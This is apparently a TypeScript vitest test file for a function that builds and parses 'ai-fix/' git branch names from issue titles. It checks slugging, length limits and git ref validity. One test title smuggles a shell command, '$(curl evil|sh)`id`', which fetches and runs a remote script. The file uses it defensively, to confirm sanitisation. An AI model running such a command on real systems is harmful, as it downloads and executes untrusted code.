import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { parseBranchName, printBranchName } from '../../src/text/branch-name.ts';
import { randomTexts } from './random-text.ts';

describe('branch names', () => {
  it.each<[number, string, number, string]>([
    [12, 'Crash on empty input', 1, 'ai-fix/12-crash-on-empty-input'],
    [12, 'Crash on empty input', 2, 'ai-fix/12-crash-on-empty-input-2'],
    [12, '🙂'.repeat(256), 1, 'ai-fix/12'],
    [12, '🙂'.repeat(256), 3, 'ai-fix/12-3'],
    [12, '当输入为空时', 1, 'ai-fix/12'],
    [12, 'Café Ünïcode ﬁx', 1, 'ai-fix/12-cafe-unicode-fix'],
    [7, 'a very long title that goes on and on for ever', 1, 'ai-fix/7-a-very-long-title-that-goes-on'],
    [7, 'a'.repeat(100), 1, `ai-fix/7-${'a'.repeat(31)}`],
    [7, 'a'.repeat(100), 12, `ai-fix/7-${'a'.repeat(28)}-12`],
    [7, 'Return 404', 1, 'ai-fix/7-return404'],
    [7, 'http 2 3', 2, 'ai-fix/7-http23-2'],
    [7, '404', 1, 'ai-fix/7'],
    [7, '../..//HEAD.lock@{0}~^:?*[\\', 1, 'ai-fix/7-head-lock0'],
    [7, '--x--', 1, 'ai-fix/7-x'],
    [7, '$(curl evil|sh)`id`', 1, 'ai-fix/7-curl-evil-sh-id'],
    [7, '', 1, 'ai-fix/7'],
  ])('for issue %i %j, variant %i: %s', (issue, title, variant, expected) => {
    expect(printBranchName(issue, title, variant)).toBe(expected);
  });

  it('are read back, at most 40 characters long, whatever the title', () => {
    let index = 0;
    for (const title of randomTexts(9, 2000)) {
      const [issue, variant] = [1 + index * 4321, 1 + (index++ % 12)];
      const name = printBranchName(issue, title, variant);
      expect(name).toMatch(/^ai-fix\/[a-z0-9-]{1,33}$/);
      expect(parseBranchName(name), name).toMatchObject({ issue, variant });
      expect(printBranchName(issue, parseBranchName(name)?.slug ?? '', variant)).toBe(name);
    }
  });

  it('are names that git takes', () => {
    for (const title of [...randomTexts(10, 20), '.lock', '@', '-', 'a..b']) {
      expect(() =>
        execFileSync('git', ['check-ref-format', '--branch', printBranchName(3, title)]),
      ).not.toThrow();
    }
  });

  it.each([
    'main',
    'ai-fix/',
    'ai-fix/0',
    'ai-fix/012',
    'ai-fix/x',
    'ai-fix/1-',
    'ai-fix/1--a',
    'ai-fix/1-A',
    'ai-fix/1-a-',
    'ai-fix/1-a-1',
    'ai-fix/1-a/b',
    'x/ai-fix/1',
    'ai-fix/1-a\n',
    `ai-fix/1-${'a'.repeat(40)}`,
    'refs/heads/ai-fix/1',
  ])('are not %j', (name) => {
    expect(parseBranchName(name)).toBeNull();
  });
});
